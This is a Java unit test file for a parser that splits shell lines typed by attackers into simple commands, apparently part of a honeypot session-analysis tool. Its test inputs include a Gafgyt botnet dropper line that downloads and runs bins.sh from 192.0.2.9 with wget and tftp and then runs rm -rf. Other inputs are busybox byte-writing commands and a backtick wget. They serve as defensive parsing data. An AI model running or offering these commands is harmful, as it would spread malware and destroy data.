package teiten.session.understand;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Random;

/// What attackers type, split into simple commands.
class ShellLineTest {
    private static List<String> programs(String line) {
        return ShellLine.split(line).stream().map(ShellLine.Simple::program).toList();
    }

    @Test
    void a_gafgyt_line_is_its_commands_in_order() {
        List<ShellLine.Simple> commands =
                ShellLine.split(
                        "cd /tmp || cd /var/run; wget http://192.0.2.9/bins.sh; chmod 777 *;"
                                + " sh bins.sh; tftp -g 192.0.2.9 -r t.sh & rm -rf *");

        assertThat(commands.stream().map(ShellLine.Simple::program))
                .containsExactly("cd", "cd", "wget", "chmod", "sh", "tftp", "rm");
        assertThat(commands.get(1).after()).isEqualTo("||");
        assertThat(commands.get(6).after()).isEqualTo("&");
        assertThat(commands.get(2).arguments()).containsExactly("http://192.0.2.9/bins.sh");
    }

    @Test
    void quotes_redirections_and_busybox_are_understood() {
        List<ShellLine.Simple> commands =
                ShellLine.split(
                        "/bin/busybox echo -ne '\\x7f\\x45' >> /tmp/.x 2>&1; >/dev/.ptmx && cd"
                                + " \"/a b\"");

        assertThat(commands.get(0).program()).isEqualTo("echo");
        assertThat(commands.get(0).ofBusyBox()).isTrue();
        assertThat(commands.get(0).arguments()).containsExactly("-ne", "\\x7f\\x45");
        assertThat(commands.get(0).redirects())
                .containsExactly(new ShellLine.Redirect(">>", "/tmp/.x"));
        assertThat(commands.get(1).words()).isEmpty();
        assertThat(commands.get(2).arguments()).containsExactly("/a b");
    }

    @Test
    void loops_substitutions_and_subshells_give_their_commands_too() {
        assertThat(programs("(dd bs=52 count=1 if=.s || cat .s)")).containsExactly("dd", "cat");
        assertThat(programs("while read i; do echo $i; done < /bin/echo"))
                .containsExactly("read", "echo", "");
        assertThat(programs("ls -lh $(which ls)")).containsExactly("which", "ls");
        assertThat(programs("`wget http://192.0.2.9/x`")).contains("wget");
        assertThat(programs("A=1 B=2 ./x # nothing\nid")).containsExactly("x", "id");
        assertThat(programs("nohup ./x arm &")).containsExactly("x");
    }

    @Test
    void any_line_gives_some_commands_and_no_exception() {
        String alphabet = " \t\n;&|()<>'\"\\$`#{}!=ab/0-é\0\uD800";
        for (int seed = 0; seed < 50_000; seed++) {
            Random random = new Random(seed);
            StringBuilder line = new StringBuilder();
            for (int i = random.nextInt(80); i > 0; i--) {
                line.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }

            List<ShellLine.Simple> commands = ShellLine.split(line.toString());

            assertThat(commands.size()).isLessThanOrEqualTo(ShellLine.MOST_COMMANDS + 8);
            for (ShellLine.Simple command : commands) {
                CommandStage.of(command);
                Urls.fetched(command);
                new Fingerprint().add(command);
                EchoBytes.echo(command.arguments());
            }
        }
    }

    @Test
    void deep_and_endless_lines_are_bounded() {
        assertThat(ShellLine.split("$(".repeat(8000))).hasSizeLessThan(600);
        assertThat(ShellLine.split("`".repeat(16000))).hasSizeLessThan(600);
        assertThat(ShellLine.split("a;".repeat(8000))).hasSize(ShellLine.MOST_COMMANDS);
    }
}
